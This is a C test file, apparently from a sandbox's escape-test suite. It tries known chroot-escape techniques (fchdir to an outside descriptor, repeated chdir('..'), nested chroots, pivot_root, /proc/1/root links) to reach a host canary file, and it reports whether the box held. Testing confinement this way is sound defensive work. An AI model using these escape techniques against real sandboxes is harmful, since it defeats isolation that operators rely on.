/* tries: as the box's root, the ways out of a chroot: chroot below an open descriptor and the
   working directory, chdir("..") a thousand times, chroot(".") again, pivot_root, fchdir to
   /proc/1/root */
/* must fail because: chroot moves only the task's root inside the sentry's own tree, whose root has
   nothing above it; pivot_root is EPERM */
/* an escape would: stand in the host's root directory and read the canary */
/* source: ATTACKS.md F12 */
#include "tricks.h"

static const char *file;

static int climb(void)
{
    for (int i = 0; i < 1000; i++)
        if (chdir("..") < 0)
            break;
    chroot(".");
    return reach_by(AT_FDCWD, ".", file) == 1 || reach(AT_FDCWD, file) == 1 ||
           reach_by(AT_FDCWD, "/proc/1/root", file) == 1;
}

static int by_cwd(void)
{
    mkdir("/tmp/jail", 0755);
    if (chroot("/tmp/jail") < 0)
        return 2;
    return climb();
}

static int by_descriptor(void)
{
    int fd = open("/", O_RDONLY | O_DIRECTORY);
    if (chroot("/tmp") < 0)
        return 2;
    return fchdir(fd) == 0 && climb();
}

static int nested(void)
{
    for (int i = 0; i < 200; i++) {
        mkdir("x", 0755);
        int fd = open(".", O_RDONLY | O_DIRECTORY);
        if (chroot("x") < 0)
            return i ? climb() : 2;
        fchdir(fd);
        close(fd);
    }
    return climb();
}

static int by_pivot(void)
{
    mkdir("/tmp/new", 0755);
    mkdir("/tmp/new/old", 0755);
    static const char *const at[][2] = {{"/tmp/new", "/tmp/new/old"},
                                        {".", "."},
                                        {"/", "/tmp"},
                                        {"/proc/1/root", "/proc/1/root/tmp"},
                                        {"/tmp", "/tmp"}};
    int ok = 0;
    for (int i = 0; i < COUNT(at); i++)
        ok += syscall(SYS_pivot_root, at[i][0], at[i][1]) == 0;
    return ok ? climb() : 2;
}

static int by_proc(void)
{
    static const char *const to[] = {"/proc/1/root", "/proc/self/root/..", "/proc/1/cwd", "/..",
                                     "/proc/self/fd/0"};
    int r = 2;
    for (int i = 0; i < COUNT(to); i++)
        if (chroot(to[i]) == 0)
            r = climb() == 1 ? 1 : r;
    return r == 1 ? 1 : climb();
}

static int attack(void)
{
    static const struct {
        const char *name;
        int (*fn)(void);
    } ways[] = {{"a working directory outside", by_cwd},
                {"an open descriptor", by_descriptor},
                {"200 nested roots", nested},
                {"pivot_root", by_pivot},
                {"links of /proc", by_proc}};
    int won = 0;
    if (!(file = fact("host_file")))
        return cannot("no host_file was given");
    for (int i = 0; i < COUNT(ways); i++) {
        int r = in_child(ways[i].fn);
        step("%s: %s", ways[i].name, r == 2 ? "refused" : r == 0 ? "stayed in the box" : "LEFT");
        won += r == 1;
    }
    if (won)
        return escaped("%d ways led to the canary", won);
    return contained("every way ends in the box's own root");
}

static int twin_child(void)
{
    mkdir("/tmp/inner", 0755);
    mkdir("/tmp/inner/dir", 0755);
    if (chroot("/tmp/inner") < 0)
        return errno == EPERM ? 0 : 1;
    return chdir("/") < 0 || access("/dir", F_OK) < 0 || access("/proc", F_OK) == 0;
}

static int twin(void)
{
    if (in_child(twin_child) != 0)
        return broken("chroot into a directory of our own");
    return works("chroot confines a child to a directory of our own, or is EPERM");
}

int main(int argc, char **argv)
{
    return attack_main(argc, argv, attack, twin);
}
